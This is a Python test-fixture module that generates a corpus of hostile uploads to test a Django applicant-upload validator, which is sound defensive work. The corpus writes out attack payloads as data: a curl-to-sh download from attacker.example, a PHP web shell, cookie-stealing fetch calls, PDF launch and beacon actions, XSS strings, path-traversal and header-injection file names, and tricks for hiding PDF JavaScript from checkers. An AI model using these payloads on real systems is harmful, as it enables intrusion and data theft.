"""A corpus of hostile uploads, every byte made here in code (no downloaded malware).

Each case is what an attacker would send as one file: the name, the bytes, the content type
the browser declares (ignored by the check, which reads the bytes) and the English fragment
of the message the applicant must see. ``through_the_page`` says what happens when the same
file goes through a real upload view instead: Django's multipart parser has already cut path
parts and non-printable characters (NUL, CR/LF, bidi overrides) out of the name by then, so
some names arrive harmless; they are stored, but only under a random storage name.
"""

import binascii
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cached_property
from urllib.parse import quote

from PIL import Image, PngImagePlugin

from applicants.uploads import MAX_UPLOAD_BYTES

from .files import jpeg_bytes, pdf_bytes, png_bytes, png_claiming_size, png_with_missing_pixels

# The English messages of applicants.uploads (msgids), as fragments.
NOT_ACCEPTED = "Only PDF, JPEG and PNG files are accepted"
HIDDEN_CODE = "contains hidden web code"
AFTER_END = "unexpected data after its end"
DAMAGED = "damaged or incomplete"
TOO_MANY_PIXELS = "more than 40 megapixels"
TOO_BIG = "larger than 5 MB"
EMPTY = "The file is empty"
PDF_ACTIVE = "contains scripts, actions or embedded files"
PDF_COMPLEX = "too complex to check"
PDF_INCOMPLETE = "The PDF is incomplete"
PDF_PASSWORD = "password-protected"
BAD_NAME = "The file name is not acceptable"
DOUBLE_EXTENSION = "has a double or dangerous extension"
WRONG_EXTENSION = "does not match its content"
# A name Django's parser reduces to nothing ("..") drops the file: the form says the field is empty.
NO_FILE = "This field is required"

PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"

# The kinds the "proof" issue names; every one has cases below.
KINDS = (
    "executable",
    "script",
    "html",
    "archive",
    "other image type",
    "svg",
    "polyglot",
    "pdf active content",
    "pdf damaged",
    "oversize",
    "pixel bomb",
    "truncated",
    "empty",
    "name",
)


@dataclass(frozen=True)
class Refused:
    message: str


@dataclass(frozen=True)
class StoredAs:
    """Django's parser already made the name harmless: stored under a random name, shown as ``display_name``."""

    display_name: str


@dataclass(frozen=True)
class Hostile:
    id: str
    kind: str
    name: str
    build: Callable[[], bytes] = field(repr=False)
    content_type: str
    message: str
    through_the_page: Refused | StoredAs | None = None

    @cached_property
    def content(self):
        return self.build()

    @property
    def page_outcome(self):
        return self.through_the_page or Refused(self.message)

    @property
    def spoofs_content_type(self):
        """Declared as one of the accepted types, but the bytes are something else."""
        return self.content_type in (PDF, JPEG, PNG) and not self.content.startswith(
            {PDF: b"%PDF-", JPEG: b"\xff\xd8\xff", PNG: b"\x89PNG\r\n\x1a\n"}[self.content_type]
        )


# --- builders ---------------------------------------------------------------------------------


def _pil(image_format, **options):
    def build():
        out = io.BytesIO()
        Image.new("RGB", (32, 24), (200, 40, 40)).save(out, format=image_format, **options)
        return out.getvalue()

    return build


def _zip(files):
    def build():
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in files.items():
                archive.writestr(name, data)
        return out.getvalue()

    return build


DOCX_FILES = {
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>',
    "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>KTP</w:t></w:r></w:p></w:body></w:document>',
    "word/vbaProject.bin": 'Attribute VB_Name = "AutoOpen"\nShell "cmd /c calc"',
}

PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + struct.pack("<I", 64)
    + b"PE\x00\x00\x4c\x01\x01\x00"
    + b"\x00" * 200
    + b"This program cannot be run in DOS mode.\r\r\n$"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 200
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64
OLE2_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64
# The antivirus test string (harmless text every scanner flags), not malware.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SHELL = b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>\n"
POWERSHELL = b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\r\n"
JAVASCRIPT = b"fetch('https://attacker.example/?c='+document.cookie)\n"
HTML = b"<!DOCTYPE html><html><body><script>fetch('//attacker.example/?'+document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)
SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _jpeg_segment(marker, payload):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_with_comment(comment):
    """A real JPEG with a COM segment right after SOI."""
    data = jpeg_bytes()
    return data[:2] + _jpeg_segment(0xFE, comment) + data[2:]


def jpeg_with_exif_description(text):
    image, out = Image.new("RGB", (32, 24), (10, 10, 10)), io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = text  # ImageDescription
    image.save(out, format="JPEG", exif=exif.tobytes())
    return out.getvalue()


def jpeg_claiming_size(width, height):
    """A real JPEG whose frame header (SOF0) claims ``width`` × ``height``."""
    data = jpeg_bytes()
    sof = data.index(b"\xff\xc0")
    return data[: sof + 5] + struct.pack(">HH", height, width) + data[sof + 9 :]


def _png_chunk(kind, payload):
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)


def png_with_text(key, text):
    info = PngImagePlugin.PngInfo()
    info.add_text(key, text)
    image, out = Image.new("RGB", (20, 20), (0, 90, 0)), io.BytesIO()
    image.save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def png_decompression_bomb(side=10_000):
    """A real, complete 1-bit PNG of ``side``² pixels: a few kilobytes that decode to ``side``² pixels."""
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * ((side + 7) // 8 + 1) * side, 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")


def png_with_bad_crc():
    data = bytearray(png_bytes((30, 30)))
    idat = data.index(b"IDAT")
    length = struct.unpack(">I", data[idat - 4 : idat])[0]
    data[idat + 4 + length] ^= 0xFF  # first byte of the chunk's CRC
    return bytes(data)


def png_padded_to(size):
    """A valid PNG made exactly ``size`` bytes long with a private ancillary chunk."""
    image = png_bytes((16, 16))
    iend = image.rindex(b"IEND") - 4
    padding = size - len(image) - 12
    return image[:iend] + _png_chunk(b"prVt", b"\x00" * padding) + image[iend:]


def pdf_padded_to(size):
    """A valid PDF made exactly ``size`` bytes long with a comment line."""
    padding = size - len(pdf_bytes(extra_objects=b"%\n"))
    data = pdf_bytes(extra_objects=b"%" + b"0" * padding + b"\n")
    # The xref offset at the end grew by a few digits with the padding; take them off the padding.
    return pdf_bytes(extra_objects=b"%" + b"0" * (padding - (len(data) - size)) + b"\n")


def jpeg_padded_to(size):
    """A valid JPEG made exactly ``size`` bytes long with zero bytes after its end (phones add such tails)."""
    image = jpeg_bytes()
    return image + b"\x00" * (size - len(image))


def pdf_object(body, number=4):
    return b"%d 0 obj\n" % number + body + b"\nendobj\n"


def pdf_stream(dictionary, data, number=4):
    return pdf_object(b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream", number)


def pdf_with_object_stream(hidden, encode=zlib.compress, filters=b"/FlateDecode"):
    """``hidden`` inside a compressed object stream, where a byte search of the file does not see it."""
    data = encode(hidden)
    return pdf_bytes(extra_objects=pdf_stream(b"/Type /ObjStm /N 1 /First 0 /Filter " + filters, data))


def _raw_deflate(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def zlib_with_fake_endstream(hidden):
    """A valid zlib stream whose first (stored) block holds the bytes "endstream": a checker that
    cuts the stream there inflates only the decoy; the rest, deflated, hides ``hidden``."""
    decoy = b"\nendstream\n"
    stored = b"\x00" + struct.pack("<HH", len(decoy), len(decoy) ^ 0xFFFF) + decoy
    return b"\x78\x9c" + stored + _raw_deflate(hidden) + struct.pack(">I", zlib.adler32(decoy + hidden))


def zlib_with_wrong_checksum(hidden):
    """Readers do not check the Adler-32 at the end of a zlib stream; zlib itself refuses it."""
    return zlib.compress(hidden)[:-4] + b"\x00\x00\x00\x00"


def zlib_broken_after(hidden):
    """``hidden`` deflated, then an invalid block: some readers keep what came before the error."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return b"\x78\x9c" + packer.compress(hidden) + packer.flush(zlib.Z_FULL_FLUSH) + b"\x07\xff\xff\xff"


def pdf_stream_without_end_of_line(hidden):
    """ "stream" followed by junk to the end of the line, then the data: pdf.js skips to the next line."""
    data = zlib.compress(hidden)
    body = b"<< /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Length %d >>\nstream junk\n" % len(data)
    return pdf_bytes(extra_objects=pdf_object(body + data + b"\nendstream"))


def pdf_stream_after_lone_cr(hidden):
    """An object stream whose data starts after "stream" and a lone CR, which readers accept."""
    data = zlib.compress(hidden)
    body = b"<< /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Length %d >>\nstream\r" % len(data)
    return pdf_bytes(extra_objects=pdf_object(body + data + b"\nendstream"))


def pdf_inflation_bomb():
    """A stream of a few dozen kilobytes that inflates past the 64 MB the check allows itself."""
    return pdf_bytes(extra_objects=pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"\x00" * (65 << 20), 9)))


def _pdf(catalog_extra=b"", extra_objects=b""):
    return lambda: pdf_bytes(extra_objects=extra_objects, catalog_extra=catalog_extra)


def _const(data):
    return lambda: data


def _case(id, kind, name, build, content_type, message, through_the_page=None):
    return Hostile(id, kind, name, build, content_type, message, through_the_page)


# --- the corpus -------------------------------------------------------------------------------

CORPUS = [
    # Executables renamed as documents or photos: refused by their bytes, whatever name and type they claim.
    _case("pe_exe_renamed_pdf", "executable", "KTP Ani.pdf", _const(PE), PDF, NOT_ACCEPTED),
    _case("elf_renamed_jpg", "executable", "pasfoto.jpg", _const(ELF), JPEG, NOT_ACCEPTED),
    _case("mach_o_renamed_png", "executable", "ijazah.png", _const(MACH_O), PNG, NOT_ACCEPTED),
    _case("java_class_renamed_pdf", "executable", "sertifikat.pdf", _const(JAVA_CLASS), PDF, NOT_ACCEPTED),
    _case("eicar_renamed_pdf", "executable", "bukti.pdf", _const(EICAR), PDF, NOT_ACCEPTED),
    # Scripts renamed .jpg/.png/.pdf.
    _case("php_renamed_jpg", "script", "foto.jpg", _const(PHP), JPEG, NOT_ACCEPTED),
    _case("php_with_gif_header_renamed_jpg", "script", "foto.jpg", _const(b"GIF89a" + PHP), JPEG, NOT_ACCEPTED),
    _case("shell_script_renamed_jpg", "script", "foto.jpg", _const(SHELL), JPEG, NOT_ACCEPTED),
    _case("powershell_renamed_pdf", "script", "ktp.pdf", _const(POWERSHELL), PDF, NOT_ACCEPTED),
    _case("javascript_renamed_png", "script", "ijazah.png", _const(JAVASCRIPT), PNG, NOT_ACCEPTED),
    # HTML renamed, and HTML behind a real signature.
    _case("html_renamed_pdf", "html", "ktp.pdf", _const(HTML), PDF, NOT_ACCEPTED),
    _case("html_renamed_jpg", "html", "foto.jpg", _const(HTML), JPEG, NOT_ACCEPTED),
    _case("html_with_bom_renamed_png", "html", "foto.png", _const(b"\xef\xbb\xbf" + HTML), PNG, NOT_ACCEPTED),
    _case("html_behind_jpeg_magic", "html", "foto.jpg", _const(b"\xff\xd8\xff\xe0" + HTML), JPEG, HIDDEN_CODE),
    _case("html_behind_png_signature", "html", "foto.png", _const(b"\x89PNG\r\n\x1a\n" + HTML), PNG, HIDDEN_CODE),
    _case("html_behind_pdf_header", "html", "ktp.pdf", _const(b"%PDF-1.7\n" + HTML), PDF, PDF_INCOMPLETE),
    # Archives and office documents renamed .pdf.
    _case("zip_renamed_pdf", "archive", "ktp.pdf", _zip({"ktp.exe": PE}), PDF, NOT_ACCEPTED),
    _case("docx_with_macro_renamed_pdf", "archive", "ijazah.pdf", _zip(DOCX_FILES), PDF, NOT_ACCEPTED),
    _case("ole2_doc_renamed_pdf", "archive", "ijazah.pdf", _const(OLE2_DOC), PDF, NOT_ACCEPTED),
    _case("rar_renamed_pdf", "archive", "ktp.pdf", _const(RAR), PDF, NOT_ACCEPTED),
    _case("rtf_renamed_pdf", "archive", "cv.pdf", _const(rb"{\rtf1\ansi{\object\objemb Package}}"), PDF, NOT_ACCEPTED),
    # Image formats that are not accepted, disguised as JPEG or PNG.
    _case("gif_renamed_jpg", "other image type", "foto.jpg", _pil("GIF"), JPEG, NOT_ACCEPTED),
    _case("bmp_renamed_jpg", "other image type", "foto.jpg", _pil("BMP"), JPEG, NOT_ACCEPTED),
    _case("tiff_renamed_jpg", "other image type", "foto.jpg", _pil("TIFF"), JPEG, NOT_ACCEPTED),
    _case("webp_renamed_jpg", "other image type", "foto.jpg", _pil("WEBP"), JPEG, NOT_ACCEPTED),
    _case("ico_renamed_png", "other image type", "foto.png", _pil("ICO"), PNG, NOT_ACCEPTED),
    # SVG carries script.
    _case("svg_script_declared_png", "svg", "foto.png", _const(SVG), PNG, NOT_ACCEPTED),
    _case("svg_script_declared_svg", "svg", "foto.svg", _const(SVG), "image/svg+xml", NOT_ACCEPTED),
    _case("svg_onload_renamed_jpg", "svg", "foto.jpg", _const(SVG_ONLOAD), JPEG, NOT_ACCEPTED),
    _case("svgz_renamed_png", "svg", "foto.png", lambda: zlib.compress(SVG), PNG, NOT_ACCEPTED),
    # Real images that also carry script or markup (the bytes would run if served as HTML).
    _case(
        "jpeg_with_script_after_end",
        "polyglot",
        "foto.jpg",
        lambda: jpeg_bytes() + b"<script>alert(document.cookie)</script>",
        JPEG,
        HIDDEN_CODE,
    ),
    _case("jpeg_with_php_comment", "polyglot", "foto.jpg", lambda: jpeg_with_comment(PHP), JPEG, HIDDEN_CODE),
    _case(
        "jpeg_with_script_in_exif",
        "polyglot",
        "foto.jpg",
        lambda: jpeg_with_exif_description("<script>alert(1)</script>"),
        JPEG,
        HIDDEN_CODE,
    ),
    _case(
        "jpeg_with_javascript_url_comment",
        "polyglot",
        "foto.jpg",
        lambda: jpeg_with_comment(b"javascript:alert(1)"),
        JPEG,
        HIDDEN_CODE,
    ),
    _case(
        "png_with_svg_in_text_chunk",
        "polyglot",
        "foto.png",
        lambda: png_with_text("Comment", "<svg onload=alert(1)>"),
        PNG,
        HIDDEN_CODE,
    ),
    _case(
        "png_with_html_after_end",
        "polyglot",
        "foto.png",
        lambda: png_bytes() + b"<html><body onload=alert(1)>",
        PNG,
        HIDDEN_CODE,
    ),
    _case(
        "png_with_zip_after_end", "polyglot", "foto.png", lambda: png_bytes() + _zip({"a.php": PHP})(), PNG, AFTER_END
    ),
    # PDFs that act on their own: scripts, launch actions, embedded files, automatic actions.
    _case("pdf_openaction_javascript", "pdf active content", "ktp.pdf", _pdf(b"/OpenAction " + JS), PDF, PDF_ACTIVE),
    _case(
        "pdf_javascript_name_tree",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", pdf_object(JS)),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_js_key_in_link",
        "pdf active content",
        "ktp.pdf",
        _pdf(extra_objects=pdf_object(b"<< /JS (x) >>")),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_openaction_launch",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_embedded_files_name_tree",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/Names << /EmbeddedFiles << /Names [(ktp.exe) 4 0 R] >> >>"),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_embedded_file_stream",
        "pdf active content",
        "ktp.pdf",
        _pdf(extra_objects=pdf_stream(b"/Type /EmbeddedFile", PE)),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_file_attachment_without_type",
        "pdf active content",
        "ktp.pdf",
        _pdf(
            extra_objects=pdf_object(
                b"<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>"
            )
            + pdf_stream(b"", PE, number=5)
        ),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_page_open_aa_javascript",
        "pdf active content",
        "ktp.pdf",
        _pdf(extra_objects=pdf_object(b"<< /Type /Page /AA << /O " + JS + b" >> >>")),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_aa_uri_beacon",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/AA << /WC << /S /URI /URI (https://attacker.example/opened) >> >>"),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_openaction_gotor_unc",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_rich_media",
        "pdf active content",
        "ktp.pdf",
        _pdf(extra_objects=pdf_object(b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent 5 0 R >>")),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_xfa_form", "pdf active content", "ktp.pdf", _pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>"), PDF, PDF_ACTIVE
    ),
    _case(
        "pdf_submit_form",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/OpenAction << /S /SubmitForm /F (https://attacker.example/) >>"),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_rendition",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/OpenAction << /S /Rendition /OP 0 >>"),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_hex_escaped_javascript",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_hex_escaped_launch",
        "pdf active content",
        "ktp.pdf",
        _pdf(b"/OpenAction << /S /#4C#61unch >>"),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_hex_escaped_embedded_file",
        "pdf active content",
        "ktp.pdf",
        _pdf(extra_objects=pdf_stream(b"/Type /Emb#65ddedFile", PE)),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_javascript_in_object_stream",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_with_object_stream(JS),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_launch_in_raw_deflate_object_stream",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_with_object_stream(b"<< /S /Launch /F (cmd.exe) >>", encode=_raw_deflate),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_javascript_deflated_twice",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_with_object_stream(
            JS, encode=lambda data: zlib.compress(zlib.compress(data)), filters=b"[/FlateDecode /FlateDecode]"
        ),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_javascript_behind_fake_endstream",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_with_object_stream(JS, encode=zlib_with_fake_endstream),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_javascript_with_wrong_checksum",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_with_object_stream(JS, encode=zlib_with_wrong_checksum),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_javascript_before_a_deflate_error",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_with_object_stream(JS, encode=zlib_broken_after),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_javascript_on_the_line_after_stream",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_stream_without_end_of_line(JS),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_javascript_after_lone_cr",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_stream_after_lone_cr(JS),
        PDF,
        PDF_ACTIVE,
    ),
    _case(
        "pdf_javascript_in_hex_object_stream",
        "pdf active content",
        "ktp.pdf",
        lambda: pdf_with_object_stream(JS, encode=lambda data: binascii.hexlify(data) + b">", filters=b"/AHx"),
        PDF,
        PDF_COMPLEX,
    ),
    _case(
        "pdf_javascript_in_lzw_object_stream",
        "pdf active content",
        "ktp.pdf",
        # Not real LZW: the check refuses the filter by its (escaped) name, whatever the data.
        lambda: pdf_with_object_stream(JS, encode=lambda data: b"\x80\x0b" + data[::-1], filters=b"/LZW#44ecode"),
        PDF,
        PDF_COMPLEX,
    ),
    # PDFs the check cannot read through.
    _case("pdf_encrypted", "pdf damaged", "ktp.pdf", _pdf(b"/Encrypt 9 0 R"), PDF, PDF_PASSWORD),
    _case("pdf_without_eof", "pdf damaged", "ktp.pdf", lambda: pdf_bytes().replace(b"%%EOF", b""), PDF, PDF_INCOMPLETE),
    _case(
        "pdf_cut_in_half", "pdf damaged", "ktp.pdf", lambda: pdf_bytes()[: len(pdf_bytes()) // 2], PDF, PDF_INCOMPLETE
    ),
    _case("pdf_inflation_bomb", "pdf damaged", "ktp.pdf", pdf_inflation_bomb, PDF, PDF_COMPLEX),
    # One byte over the stated limit (5 MB = 5 × 1024 × 1024 bytes); at the limit the same files pass.
    _case("pdf_one_byte_over", "oversize", "ktp.pdf", lambda: pdf_padded_to(MAX_UPLOAD_BYTES + 1), PDF, TOO_BIG),
    _case("jpeg_one_byte_over", "oversize", "foto.jpg", lambda: jpeg_padded_to(MAX_UPLOAD_BYTES + 1), JPEG, TOO_BIG),
    _case("png_one_byte_over", "oversize", "foto.png", lambda: png_padded_to(MAX_UPLOAD_BYTES + 1), PNG, TOO_BIG),
    # Pixel bombs: small files whose headers claim (or whose data really holds) a huge picture.
    _case(
        "png_claims_400_megapixels",
        "pixel bomb",
        "foto.png",
        lambda: png_claiming_size(20_000, 20_000),
        PNG,
        TOO_MANY_PIXELS,
    ),
    _case(
        "png_claims_49_megapixels",
        "pixel bomb",
        "foto.png",
        lambda: png_claiming_size(7_000, 7_000),
        PNG,
        TOO_MANY_PIXELS,
    ),
    _case(
        "png_claims_one_by_50_million",
        "pixel bomb",
        "foto.png",
        lambda: png_claiming_size(1, 50_000_000),
        PNG,
        TOO_MANY_PIXELS,
    ),
    _case(
        "jpeg_claims_4_gigapixels",
        "pixel bomb",
        "foto.jpg",
        lambda: jpeg_claiming_size(65_500, 65_500),
        JPEG,
        TOO_MANY_PIXELS,
    ),
    _case(
        "jpeg_claims_48_megapixels",
        "pixel bomb",
        "foto.jpg",
        lambda: jpeg_claiming_size(8_000, 6_000),
        JPEG,
        TOO_MANY_PIXELS,
    ),
    _case(
        "png_decompression_bomb_100_megapixels", "pixel bomb", "foto.png", png_decompression_bomb, PNG, TOO_MANY_PIXELS
    ),
    # Cut short or corrupt.
    _case("png_cut_at_120_bytes", "truncated", "foto.png", lambda: png_bytes((300, 300))[:120], PNG, DAMAGED),
    _case("png_without_iend", "truncated", "foto.png", lambda: png_bytes((60, 60))[:-12], PNG, DAMAGED),
    _case("png_missing_pixel_rows", "truncated", "foto.png", png_with_missing_pixels, PNG, DAMAGED),
    _case("png_bad_crc", "truncated", "foto.png", png_with_bad_crc, PNG, DAMAGED),
    _case("png_zero_width", "truncated", "foto.png", lambda: png_claiming_size(0, 10), PNG, DAMAGED),
    _case("jpeg_cut_at_600_bytes", "truncated", "foto.jpg", lambda: jpeg_bytes((400, 300))[:600], JPEG, DAMAGED),
    _case("jpeg_without_eoi", "truncated", "foto.jpg", lambda: jpeg_bytes((80, 60))[:-2], JPEG, DAMAGED),
    _case("jpeg_header_only", "truncated", "foto.jpg", _const(b"\xff\xd8\xff\xe0" + b"\x00" * 50), JPEG, DAMAGED),
    # Nothing in it.
    _case("zero_bytes", "empty", "ktp.pdf", _const(b""), PDF, EMPTY),
    _case("zero_bytes_image", "empty", "foto.jpg", _const(b""), JPEG, EMPTY),
    _case("whitespace_only", "empty", "foto.jpg", _const(b" \r\n\t \n"), JPEG, NOT_ACCEPTED),
    _case("nul_bytes_only", "empty", "foto.png", _const(b"\x00" * 64), PNG, NOT_ACCEPTED),
    _case("pdf_header_only", "empty", "ktp.pdf", _const(b"%PDF-1.7\n"), PDF, PDF_INCOMPLETE),
    # Names. The raw name is refused by the check; through the page, Django's parser has cleaned it first.
    _case(
        "name_path_traversal",
        "name",
        "../../etc/cron.d/ktp.pdf",
        pdf_bytes,
        PDF,
        BAD_NAME,
        StoredAs("ktp.pdf"),
    ),
    _case("name_windows_path", "name", "..\\..\\Windows\\ktp.pdf", pdf_bytes, PDF, BAD_NAME, StoredAs("ktp.pdf")),
    _case("name_absolute_path_no_extension", "name", "/etc/passwd", pdf_bytes, PDF, BAD_NAME, Refused(WRONG_EXTENSION)),
    _case("name_dot_dot", "name", "..", pdf_bytes, PDF, BAD_NAME, Refused(NO_FILE)),
    _case("name_nul_before_extension", "name", "ktp\x00.pdf", pdf_bytes, PDF, BAD_NAME, StoredAs("ktp.pdf")),
    _case("name_nul_hides_php", "name", "foto.php\x00.jpg", jpeg_bytes, JPEG, BAD_NAME, Refused(DOUBLE_EXTENSION)),
    _case("name_crlf", "name", "ktp\r\n.pdf", pdf_bytes, PDF, BAD_NAME, StoredAs("ktp.pdf")),
    _case(
        "name_crlf_header_injection",
        "name",
        "ktp.pdf\r\nContent-Type: text/html",
        pdf_bytes,
        PDF,
        BAD_NAME,
        Refused(WRONG_EXTENSION),
    ),
    _case("name_rtl_override_exe", "name", "foto\u202egpj.exe", jpeg_bytes, JPEG, BAD_NAME, Refused(DOUBLE_EXTENSION)),
    _case("name_rtl_override_pdf", "name", "KTP\u202efdp.pdf", pdf_bytes, PDF, BAD_NAME, StoredAs("KTPfdp.pdf")),
    _case("name_rtl_isolate", "name", "ktp\u2067.pdf", pdf_bytes, PDF, BAD_NAME, StoredAs("ktp.pdf")),
    _case("name_double_extension_exe", "name", "ktp.pdf.exe", pdf_bytes, PDF, DOUBLE_EXTENSION),
    _case("name_hidden_exe", "name", "ktp.exe.pdf", pdf_bytes, PDF, DOUBLE_EXTENSION),
    _case("name_php_then_jpg", "name", "foto.php.jpg", jpeg_bytes, JPEG, DOUBLE_EXTENSION),
    _case("name_jpg_then_php", "name", "foto.jpg.php", jpeg_bytes, JPEG, DOUBLE_EXTENSION),
    _case("name_html_then_jpg", "name", "foto.html.jpg", jpeg_bytes, JPEG, DOUBLE_EXTENSION),
    _case("name_php_semicolon_jpg", "name", "foto.php;.jpg", jpeg_bytes, JPEG, DOUBLE_EXTENSION),
    _case("name_php_encoded_nul_jpg", "name", "foto.php%00.jpg", jpeg_bytes, JPEG, DOUBLE_EXTENSION),
    _case("name_svg_then_png", "name", "foto.svg.png", png_bytes, PNG, DOUBLE_EXTENSION),
    _case("name_exe_trailing_space", "name", "ktp.exe ", pdf_bytes, PDF, DOUBLE_EXTENSION),
    _case("name_png_holding_jpeg", "name", "foto.png", jpeg_bytes, PNG, WRONG_EXTENSION),
    _case("name_jpg_holding_pdf", "name", "ktp.jpg", pdf_bytes, JPEG, WRONG_EXTENSION),
    _case("name_pdf_holding_png", "name", "ijazah.pdf", png_bytes, PDF, WRONG_EXTENSION),
    _case("name_without_extension", "name", "ktp", pdf_bytes, PDF, WRONG_EXTENSION),
    _case("name_htaccess", "name", ".htaccess", pdf_bytes, "text/plain", WRONG_EXTENSION),
]

# Names the check takes as they are (nothing in them is unsafe), made harmless by Django before the view.
NEUTRALISED_BY_DJANGO = [
    # The parser unescapes HTML entities before it takes the last path part.
    ("name_html_entity_path", "&#46;&#46;&#47;&#46;&#46;&#47;ktp.pdf", "ktp.pdf"),
]


def corpus_case(case_id):
    return next(case for case in CORPUS if case.id == case_id)


# --- a multipart body with the name exactly as given -------------------------------------------

BOUNDARY = "----hostile-corpus-boundary"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


def _disposition_name(name):
    # A name with characters a header cannot carry raw goes as RFC 2231 (filename*=), as curl can send it.
    if name.isascii() and name.isprintable() and '"' not in name and "\\" not in name and "%" not in name:
        return f'filename="{name}"'
    return "filename*=UTF-8''" + quote(name, safe="")


def multipart(fields=None, files=()):
    """A multipart/form-data body: ``fields`` as text, ``files`` as (field, name, bytes, content type)."""
    out = io.BytesIO()
    for key, value in (fields or {}).items():
        out.write(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode())
    for key, name, data, content_type in files:
        header = (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"; {_disposition_name(name)}\r\n'
            f"Content-Type: {content_type}\r\n\r\n"
        )
